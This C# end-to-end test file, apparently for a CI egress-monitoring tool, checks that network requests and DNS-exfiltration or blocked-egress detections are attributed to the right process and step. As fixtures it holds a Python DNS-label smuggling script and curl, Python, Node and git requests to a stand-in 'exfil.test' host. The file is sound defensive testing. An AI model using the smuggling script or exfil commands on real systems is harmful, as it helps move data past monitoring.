using System.Text.Json;
using HardenRunner.EndToEnd.Tests.Support;
using HardenRunner.Lab;
using Xunit.Abstractions;
using TestLab = HardenRunner.Lab.Lab;

namespace HardenRunner.EndToEnd.Tests;

/// <summary>
/// Attribution in the lab: a simulated job in audit mode whose steps are processes started with GITHUB_ACTION,
/// GITHUB_ACTION_REPOSITORY (for uses: steps) and GITHUB_WORKSPACE as the runner sets them. curl, python3, node and git
/// each make an allowed and a denied request; after the stop, report.json names, for every request, the process that
/// made it and its step, and a step smuggling data in DNS labels raises dns-exfiltration naming its process.
/// </summary>
public sealed class NetworkAttributionTests(ITestOutputHelper output)
{
    private static readonly TimeSpan StepTimeout = TimeSpan.FromSeconds(60);

    private const string Policy = """
        egress-policy: audit
        allowed-endpoints:
          - allowed.test:443
          - github.com:443
        """;

    // raw A queries for many random names under one domain, on one socket, to the system resolver (the appliance)
    private const string Smuggler = """
        import random, socket, struct, sys, uuid
        domain, count = sys.argv[1], int(sys.argv[2])
        server = [l.split()[1] for l in open('/etc/resolv.conf') if l.startswith('nameserver')][0]
        s = socket.socket(socket.AF_INET6 if ':' in server else socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(5)
        for i in range(count):
            name = uuid.uuid4().hex + '.' + domain
            q = struct.pack('>HHHHHH', random.randrange(65536), 0x0100, 1, 0, 0, 0)
            q += b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\0' + struct.pack('>HH', 1, 1)
            s.sendto(q, (server, 53))
            try:
                s.recvfrom(4096)
            except socket.timeout:
                pass
        """;

    private sealed record Step(string Action, string? Uses, string Tool, string Allowed, string Denied);

    [SkippableFact]
    public async Task Audit_EveryRequestOfCurlPythonNodeAndGit_NamesItsProcessAndStep_DnsExfiltrationNamesItsProcess()
    {
        LabRequirement.SkipUnlessAvailable();
        await using var lab = await TestLab.StartAsync(new LabOptions());
        await LabGit.CreateRepositoryAsync(lab, "acme", "web");
        var workspace = Path.Combine(lab.WorkDirectory, "workspace");
        Directory.CreateDirectory(workspace);
        await using var appliance = await ApplianceProcess.StartAsync(lab, Policy, "--upstream-ca", lab.CaCertificatePath);
        var caEnv = await CaEnvironmentAsync(lab, appliance);

        string U(string prefix) => EnforcementCoreTests.Unique(prefix);
        var steps = new[]
        {
            new Step("__run", null, "curl", U("curl-ok-"), U("curl-deny-")),
            new Step("__acme_python-tool", "acme/python-tool", "python3", U("py-ok-"), U("py-deny-")),
            new Step("__run_3", null, "node", U("node-ok-"), U("node-deny-")),
            new Step("__actions_checkout", "actions/checkout", "git", "/git/acme/web.git/info/refs", U("git-deny-")),
        };
        foreach (var step in steps)
        {
            var (file, args) = Command(step);
            var env = new Dictionary<string, string>(caEnv)
            {
                ["GITHUB_ACTION"] = step.Action,
                ["GITHUB_ACTION_REPOSITORY"] = step.Uses ?? "",
                ["GITHUB_WORKSPACE"] = workspace,
            };
            var run = await lab.RunInRunnerAsync(file, args, StepTimeout, env, workingDirectory: workspace);
            Assert.False(run.TimedOut, run.ToString());
        }

        // a step smuggling data out in DNS labels under one lab domain
        var smuggle = new Dictionary<string, string>(caEnv)
        {
            ["GITHUB_ACTION"] = "__evil_dns-smuggler",
            ["GITHUB_ACTION_REPOSITORY"] = "evil/dns-smuggler",
            ["GITHUB_WORKSPACE"] = workspace,
        };
        var smuggled = await lab.RunInRunnerAsync("/usr/bin/python3", ["-c", Smuggler, "exfil.test", "16"], StepTimeout, smuggle, workingDirectory: workspace);
        Assert.True(smuggled.Succeeded, smuggled.ToString());

        var stop = await appliance.StopAsync();
        Assert.Equal(0, stop.ExitCode);
        var reportPath = Path.Combine(appliance.StateDir, "report.json");
        Assert.True(File.Exists(reportPath), stop.ToString());
        using var report = JsonDocument.Parse(await File.ReadAllTextAsync(reportPath));
        var network = report.RootElement.GetProperty("network").EnumerateArray().ToList();

        foreach (var step in steps)
        {
            var allowed = Requests(network, step.Allowed);
            var denied = Requests(network, step.Denied);
            Assert.True(allowed.Count > 0, $"no request of {step.Tool} to {step.Allowed} in the report");
            Assert.True(denied.Count > 0, $"no request of {step.Tool} to {step.Denied} in the report");
            foreach (var e in allowed)
            {
                Assert.Equal(("allow", "passed"), (e.GetProperty("decision").GetString(), e.GetProperty("action").GetString()));
                AssertMadeBy(e, step);
            }

            foreach (var e in denied)
            {
                Assert.Equal("exfil.test", e.GetProperty("host").GetString());
                Assert.Equal(("deny", "passed"), (e.GetProperty("decision").GetString(), e.GetProperty("action").GetString()));
                AssertMadeBy(e, step);
            }
        }

        var exfiltration = report.RootElement.GetProperty("detections").EnumerateArray()
            .Where(d => d.GetProperty("type").GetString() == "dns-exfiltration").ToList();
        var detection = Assert.Single(exfiltration);
        Assert.Equal("exfil.test", detection.GetProperty("evidence").GetProperty("domain").GetString());
        AssertMadeBy(detection, new Step("__evil_dns-smuggler", "evil/dns-smuggler", "python3", "", ""));

        // DNS queries: attributed when the client's socket was still there at lookup time (a client answered from the
        // cache may be gone already: unknown, the documented blind spot) — and then never to a process of another step
        var dns = network.Where(e => e.GetProperty("kind").GetString() == "dns").ToList();
        var attributed = dns.Where(e => e.GetProperty("process").ValueKind == JsonValueKind.Object).ToList();
        foreach (var e in attributed)
        {
            var host = e.GetProperty("host").GetString() ?? "";
            var step = steps.FirstOrDefault(s => host.Contains(s.Allowed, StringComparison.Ordinal) || host.Contains(s.Denied, StringComparison.Ordinal));
            if (step is not null && e.GetProperty("step").ValueKind == JsonValueKind.Object)
            {
                Assert.Equal(step.Action, e.GetProperty("step").GetProperty("action").GetString());
            }
        }

        output.WriteLine($"report: {network.Count} network entries; dns: {attributed.Count} of {dns.Count} attributed");
    }

    [SkippableFact]
    public async Task Block_DroppedFlow_EgressBlockedNamesTheProcessAndStep()
    {
        LabRequirement.SkipUnlessAvailable();
        await using var lab = await TestLab.StartAsync(new LabOptions());
        await using var appliance = await ApplianceProcess.StartAsync(lab, EnforcementCoreTests.Policy);
        var env = new Dictionary<string, string> { ["GITHUB_ACTION"] = "__evil_uploader", ["GITHUB_ACTION_REPOSITORY"] = "evil/uploader" };

        // a raw TCP upload to a denied address: its SYNs are dropped while the client waits (SYN_SENT), so its socket
        // is there when the logged packet is looked up
        var marker = EnforcementCoreTests.Unique("blocked-");
        var send = await EnforcementCoreTests.SendAsync(lab, "tcp", "198.51.100.20", 9000, marker, env);
        Assert.False(send.Succeeded, send.ToString());

        var stop = await appliance.StopAsync();
        Assert.Equal(0, stop.ExitCode);
        using var report = JsonDocument.Parse(await File.ReadAllTextAsync(Path.Combine(appliance.StateDir, "report.json")));
        var flow = Assert.Single(report.RootElement.GetProperty("network").EnumerateArray(), e =>
            e.GetProperty("kind").GetString() == "tcp" && e.GetProperty("address").GetString() == "198.51.100.20" && e.GetProperty("port").GetInt32() == 9000);
        Assert.Equal(("deny", "blocked"), (flow.GetProperty("decision").GetString(), flow.GetProperty("action").GetString()));
        var step = new Step("__evil_uploader", "evil/uploader", "python3", "", "");
        AssertMadeBy(flow, step);
        var detection = Assert.Single(report.RootElement.GetProperty("detections").EnumerateArray(), d =>
            d.GetProperty("type").GetString() == "egress-blocked" && d.GetProperty("evidence").GetProperty("address").GetString() == "198.51.100.20");
        Assert.Equal("9000", detection.GetProperty("evidence").GetProperty("port").GetString());
        AssertMadeBy(detection, step);
    }

    private static List<JsonElement> Requests(List<JsonElement> network, string marker) =>
        [.. network.Where(e => e.GetProperty("kind").GetString() is "https" or "http"
            && (e.GetProperty("path").GetString() ?? "").Contains(marker, StringComparison.Ordinal))];

    /// <summary>The entry's process is the step's tool (git: its HTTPS helper, below git) and its step the step.</summary>
    private static void AssertMadeBy(JsonElement e, Step step)
    {
        var raw = e.GetRawText();
        var process = e.GetProperty("process");
        Assert.True(process.ValueKind == JsonValueKind.Object, "no process: " + raw);
        var exe = Path.GetFileName(process.GetProperty("exe").GetString()) ?? "";
        switch (step.Tool)
        {
            case "git":
                // git fetches over HTTPS through its remote helper, a child of git
                Assert.True(exe.StartsWith("git-remote-http", StringComparison.Ordinal), raw);
                Assert.Contains(process.GetProperty("ancestors").EnumerateArray(), a => a.GetProperty("exe").GetString() == "/usr/bin/git");
                break;
            case "python3":
                Assert.True(exe.StartsWith("python3", StringComparison.Ordinal), raw);
                break;
            default:
                Assert.True(exe == step.Tool, raw);
                break;
        }

        var s = e.GetProperty("step");
        Assert.True(s.ValueKind == JsonValueKind.Object, "no step: " + raw);
        Assert.Equal(step.Action, s.GetProperty("action").GetString());
        Assert.Equal(step.Uses, s.GetProperty("uses").ValueKind == JsonValueKind.Null ? null : s.GetProperty("uses").GetString());
    }

    /// <summary>The step's command: the tool, one request it is allowed to make and one it is not (audit: both pass).</summary>
    private static (string File, string[] Args) Command(Step step) => step.Tool switch
    {
        "curl" => ("sh", ["-c", $"/usr/bin/curl -sS --max-time 10 https://allowed.test/{step.Allowed}; /usr/bin/curl -sS --max-time 10 https://exfil.test/{step.Denied}"]),
        "python3" => ("sh", ["-c", $"/usr/bin/python3 -c 'import sys, urllib.request as u; [u.urlopen(x, timeout=10).read() for x in sys.argv[1:]]' https://allowed.test/{step.Allowed} https://exfil.test/{step.Denied}"]),
        "node" => ("sh", ["-c", "/usr/bin/node -e \"const https = require('https'); const get = (u, next) => https.get(u, r => { r.resume(); r.on('end', next); }).on('error', e => { console.error(e.message); process.exit(1); }); " + $"get('https://allowed.test/{step.Allowed}', () => get('https://exfil.test/{step.Denied}', () => {{}}));\""]),
        "git" => ("sh", ["-c", $"/usr/bin/git ls-remote https://github.com/git/acme/web.git; /usr/bin/git ls-remote https://exfil.test/git/{step.Denied}/web.git; true"]),
        _ => throw new ArgumentOutOfRangeException(nameof(step), step.Tool, null),
    };

    /// <summary>The CA variables of the running appliance ('harden-runner env'), as a step would get them from $GITHUB_ENV.</summary>
    private static async Task<Dictionary<string, string>> CaEnvironmentAsync(TestLab lab, ApplianceProcess appliance)
    {
        var print = await lab.RunInRunnerAsync(HardenRunnerBinary.FileName, HardenRunnerBinary.Args(["env", "--state-dir", appliance.StateDir]), StepTimeout);
        Assert.True(print.Succeeded, print.ToString());
        var env = new Dictionary<string, string>();
        foreach (var line in print.StandardOutput.Split('\n', StringSplitOptions.RemoveEmptyEntries))
        {
            var eq = line.IndexOf('=', StringComparison.Ordinal);
            env[line[..eq]] = line[(eq + 1)..];
        }

        return env;
    }
}
